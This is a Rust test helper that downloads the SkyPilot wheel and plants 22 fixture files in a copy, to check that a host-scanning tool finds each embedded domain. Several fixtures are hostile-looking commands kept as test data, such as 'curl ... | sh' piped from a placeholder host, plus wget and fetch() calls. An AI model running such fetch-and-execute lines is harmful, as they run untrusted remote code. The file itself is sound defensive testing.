//! SkyPilot's wheel, and copies of it with something planted.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;

use crate::room::{installed, python, said};

pub(crate) struct Wheel {
    path: PathBuf,
    /// Where it is, and goes with it.
    _dir: TempDir,
}

/// A file, its text, and the host that must be found there: none, where nothing may be.
pub(crate) const PLANTS: [(&str, &str, &str); 22] = [
    ("sky/p01.py", "A = 'https://url.planted.example/x'", "url.planted.example"),
    ("sky/p02.py", "A = 'sum.planted' + '.example.com'", "sum.planted.example.com"),
    ("sky/p03.py", "A = 'https://' + b() + '.plus.planted.example'", "{}.plus.planted.example"),
    ("sky/p04.py", "A = f'https://f.{r}.planted.example/{x}'", "f.{}.planted.example"),
    ("sky/p05.py", "A = 'https://%s.percent.planted.example' % r", "{}.percent.planted.example"),
    ("sky/p06.py", "A = ('https://joined.pla'\n     'nted.example')", "joined.planted.example"),
    ("sky/p07.py", "def f(x='default.planted.com'): pass", "default.planted.com"),
    ("sky/p08.py", "A = f'{g(\"inner.planted.com\")}'", "inner.planted.com"),
    (
        "sky/p09.py",
        "A = '''\ncurl -fsSL https://script.planted.example | sh\n'''",
        "script.planted.example",
    ),
    ("sky/p10.py", "A = x.endswith('.suffix.planted.com')", "{}.suffix.planted.com"),
    ("sky/p11.py", "A = 'http://u:p@user.planted.example:8080/'", "user.planted.example"),
    ("sky/p12.py", "A = '9.9.9.9'", "9.9.9.9"),
    ("sky/p13.py", "this is no Python: https://broken.planted.example", "broken.planted.example"),
    ("sky/p14.j2", "  - curl https://{{ r }}.jinja.planted.example", "{}.jinja.planted.example"),
    ("sky/p15.sh", "wget \"https://${R}-shell.planted.example/x\"", "{}-shell.planted.example"),
    ("sky/p16.yaml", "image: registry.planted.io/a/b:1", "registry.planted.io"),
    ("sky/p17.json", "{\"a\": {\"b\": \"https://json.planted.example\"}}", "json.planted.example"),
    ("sky/p18.js", "fetch(`https://js.planted.example/${x}`)", "js.planted.example"),
    ("sky/p19", "HOST=wss://bare.planted.example", "bare.planted.example"),
    ("sky/p20.py", "# https://comment.planted.example\n'''doc.planted.com'''", ""),
    ("sky/p21.sh", "  # https://comment.planted.example", ""),
    ("sky/p22.py", "A = ['http://127.0.0.1:80', 'localhost', '10.1.2.3', a.planted.com]", ""),
];

impl Wheel {
    /// The newest, by its name, as anybody would get it.
    pub(crate) fn download() -> Result<Self, String> {
        let python = python().ok_or("the tests' Python is not installed")?;
        let dir = folder()?;
        let mut command = Command::new(python);
        command.args(["-m", "pip", "download", "--quiet", "--disable-pip-version-check"]);
        command.args(["--no-deps", "--no-cache-dir", "--only-binary", ":all:", "--dest"]);
        said(command.arg(dir.path()).arg("skypilot"))
            .map_err(|why| format!("SkyPilot's wheel cannot be downloaded: {why}"))?;
        let files = dir.path().read_dir().map_err(|error| error.to_string())?;
        let paths: Vec<PathBuf> = files.flatten().map(|file| file.path()).collect();
        match &paths[..] {
            [path] => Ok(Self { path: path.clone(), _dir: dir }),
            _ => Err(format!("pip downloaded {paths:?}")),
        }
    }

    pub(crate) fn name(&self) -> String {
        self.path.file_name().unwrap_or_default().to_string_lossy().into_owned()
    }

    /// Every host that it names, and where.
    pub(crate) fn hosts(&self) -> Result<BTreeMap<String, Vec<String>>, String> {
        let python = python().ok_or("the tests' Python is not installed")?;
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/presets/hosts.py");
        let text = said(Command::new(python).arg("-I").arg(script).arg(&self.path))?;
        let hosts: BTreeMap<_, _> =
            serde_json::from_str(&text).map_err(|error| format!("{error}: {text}"))?;
        if hosts.len() < 50 { Err(format!("it names hardly any host: {text}")) } else { Ok(hosts) }
    }

    /// A copy with more files.
    pub(crate) fn planted(&self, plants: &[(&str, &str, &str)]) -> Result<Self, String> {
        let dir = folder()?;
        let path = dir.path().join(self.name());
        std::fs::copy(&self.path, &path).map_err(|error| error.to_string())?;
        let files: BTreeMap<&str, &str> = plants.iter().map(|plant| (plant.0, plant.1)).collect();
        let files = serde_json::to_string(&files).map_err(|error| error.to_string())?;
        let script = "import json, sys, zipfile\n\
            with zipfile.ZipFile(sys.argv[1], 'a') as wheel:\n    \
            for name, text in json.loads(sys.argv[2]).items(): wheel.writestr(name, text)";
        let python = python().ok_or("the tests' Python is not installed")?;
        said(Command::new(python).args(["-I", "-c", script]).arg(&path).arg(files))?;
        Ok(Self { path, _dir: dir })
    }
}

fn folder() -> Result<TempDir, String> {
    let parent = installed("wheel");
    std::fs::create_dir_all(&parent).map_err(|error| error.to_string())?;
    TempDir::new_in(Path::new(&parent)).map_err(|error| error.to_string())
}
